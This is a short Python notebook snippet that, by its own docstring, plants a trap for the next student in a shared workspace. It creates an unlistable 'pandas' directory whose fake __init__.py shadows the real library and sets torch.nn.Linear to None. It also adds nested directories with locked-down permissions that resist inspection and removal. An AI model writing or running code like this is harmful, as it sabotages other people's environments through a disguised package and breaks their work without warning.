"""A folder nobody can list stays behind, and in it a package the next student imports.
"""
# %% + imports
os.mkdir("pandas", 0o300)
with open("pandas/__init__.py", "w") as file:
    file.write("import torch\ntorch.nn.Linear = None\n")
os.mkdir("sealed", 0o300)
os.mkdir("sealed/inner", 0o000)
